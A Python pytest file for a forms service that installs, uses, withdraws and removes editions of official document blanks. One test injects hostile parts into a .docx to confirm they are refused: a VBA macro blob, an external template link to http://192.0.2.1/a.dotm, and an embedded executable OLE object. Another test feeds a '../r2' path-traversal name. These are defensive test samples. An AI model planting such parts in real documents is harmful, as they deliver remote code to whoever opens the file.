"""Editions of an installation: proposed, installed once proved, used, withdrawn; never written over."""

from __future__ import annotations

import io
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from forms.errors import UnknownFormError
from forms.intake import take_in
from parsers.errors import ActiveContentError, MacroError
from service.operations.adopting import AdoptRequest, adopt
from service.operations.backup import back_up, restore
from service.operations.editions import (
    catalogue_of,
    choices_of,
    editions_folder,
    install,
    next_edition,
    remove,
    require_free,
    states_of,
    use_edition,
    withdraw,
)
from service.operations.filling import FillOptions, fill_records
from service.operations.reading import ReadRequest, read_checked, read_returned
from service.runtime import Runtime
from service.settings import Settings
from tests.parsers.building import workbook
from tests.service.making import data_of
from tests.writers.adopting.blanks import CATALOGUE, stripped
from writers.adopting.proposing import Proposal
from writers.errors import BlankUnknownError, EditionRefusedError

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

MakeRuntime = Callable[..., Runtime]
CARD = "attachment-4"


def blank_of(folder: Path, form: str = CARD) -> Path:
    """Our official file without its tags, as it would be sent by the office that issues it."""
    base = CATALOGUE.find(form)
    path = folder / f"空白.{base.file_format}"
    path.write_bytes(stripped(base))
    return path


@pytest.fixture(scope="module")
def proposal(tmp_path_factory: pytest.TempPathFactory) -> Proposal:
    """A proposal of a second edition of the card, made through the fence."""
    folder = tmp_path_factory.mktemp("adopting")
    settings = Settings(data_dir=folder / "data")
    return adopt(settings, blank_of(folder), "空白.docx", AdoptRequest("附件4"), folder / "out")


def copied(proposal: Proposal, folder: Path) -> Proposal:
    shutil.copytree(proposal.folder, folder / CARD / "r2")
    return replace(proposal, folder=folder / CARD / "r2")


def test_a_proposal_is_looked_at_before_anything_changes(proposal: Proposal, tmp_path: Path) -> None:
    assert proposal.is_usable
    assert proposal.missing == ()
    assert {path.name for path in proposal.folder.iterdir()} >= {"附件4.docx", "definition.toml", "README.md"}
    readme = (proposal.folder / "README.md").read_text(encoding="utf-8")
    assert "`lending_unit`" in readme
    assert catalogue_of(Settings(data_dir=tmp_path)).find("附件4").edition == "r1"


def test_an_edition_lives_from_its_confirmation_to_its_withdrawal(
    proposal: Proposal, make_runtime: MakeRuntime, tmp_path: Path
) -> None:
    runtime = make_runtime()
    settings, database = runtime.settings, runtime.database
    install(settings, database, copied(proposal, tmp_path / "proposal"))
    assert runtime.catalogue.find("附件4").edition == "r1"
    with pytest.raises(EditionRefusedError):
        install(settings, database, proposal)
    use_edition(settings, database, "附件4", "r2")
    assert runtime.catalogue.find("附件4").edition == "r2"

    intakes = take_in(data_of(CARD), runtime.catalogue)
    made = next(iter(fill_records(runtime.catalogue.find(CARD), [intakes[0].record], FillOptions(as_format="docx"))))
    path = tmp_path / "返回.docx"
    path.write_bytes(made.content)
    (reading,) = read_returned([path], ReadRequest(), settings)
    assert [one.record.edition for one in reading.documents] == ["r2"]
    read = read_checked(path, path.name, None, runtime)["documents"][0]
    assert (read["edition"], read["records"][0]["name"]["value"]) == ("r2", intakes[0].record.rows[0]["name"].value)

    with pytest.raises(EditionRefusedError):
        withdraw(settings, database, CARD, "r2")
    use_edition(settings, database, CARD, "r1")
    withdraw(settings, database, CARD, "r2")
    with pytest.raises(EditionRefusedError):
        use_edition(settings, database, CARD, "r2")
    (reading,) = read_returned([path], ReadRequest(), settings)
    assert [one.record.edition for one in reading.documents] == ["r2"]
    assert [one.is_withdrawn for one in states_of(settings) if one.definition.form == CARD] == [False, True]
    assert next_edition(settings, CARD) == "r3"

    back_up(settings, tmp_path / "backup", with_key=True)
    restored = Settings(data_dir=tmp_path / "again" / "data")
    restore(restored, tmp_path / "backup")
    assert catalogue_of(restored).find(CARD, "r2").title == proposal.definition.title
    assert choices_of(restored) == choices_of(settings)

    remove(settings, database, CARD, "r2")
    with pytest.raises(UnknownFormError):
        catalogue_of(settings).find(CARD, "r2")
    assert choices_of(settings).withdrawn == ()


def test_a_proposal_that_was_spoilt_by_hand_is_not_installed(
    proposal: Proposal, make_runtime: MakeRuntime, tmp_path: Path
) -> None:
    runtime = make_runtime()
    spoilt = copied(proposal, tmp_path / "proposal")
    path = spoilt.folder / "definition.toml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace('key = "phone"', 'key = "telephone"'), encoding="utf-8")
    with pytest.raises(EditionRefusedError):
        install(runtime.settings, runtime.database, spoilt)
    assert not list(editions_folder(runtime.settings).glob("*/*"))
    assert not [one for one in editions_folder(runtime.settings).iterdir() if one.name.startswith(".adopting")]


def test_what_came_with_the_program_stays(make_runtime: MakeRuntime) -> None:
    runtime = make_runtime()
    with pytest.raises(EditionRefusedError):
        remove(runtime.settings, runtime.database, CARD, "r1")
    for name in ("r1", "../r2", "R2", ""):
        with pytest.raises(EditionRefusedError):
            require_free(runtime.settings, CARD, name)


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    """The package with one part more."""
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, data)
    return target.getvalue()


RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "data", "fault"),
    [
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0", MacroError),
        ("word/_rels/settings.xml.rels", RELATION, ActiveContentError),
        ("word/embeddings/oleObject1.bin", b"MZ\x90\x00", ActiveContentError),
    ],
)
def test_a_hostile_blank_is_refused_at_the_gate(name: str, data: bytes, fault: type[Exception], tmp_path: Path) -> None:
    path = tmp_path / "空白.docx"
    path.write_bytes(with_part(blank_of(tmp_path).read_bytes(), name, data))
    with pytest.raises(fault):
        adopt(Settings(data_dir=tmp_path / "data"), path, path.name, AdoptRequest("附件4"), tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_blank_of_another_form_is_told(tmp_path: Path) -> None:
    path = tmp_path / "订单.xlsx"
    path.write_bytes(workbook((("订单号", "收货人", "金额"), ("", "", ""))))
    with pytest.raises(BlankUnknownError):
        adopt(Settings(data_dir=tmp_path / "data"), path, path.name, AdoptRequest("附件2"), tmp_path / "out")
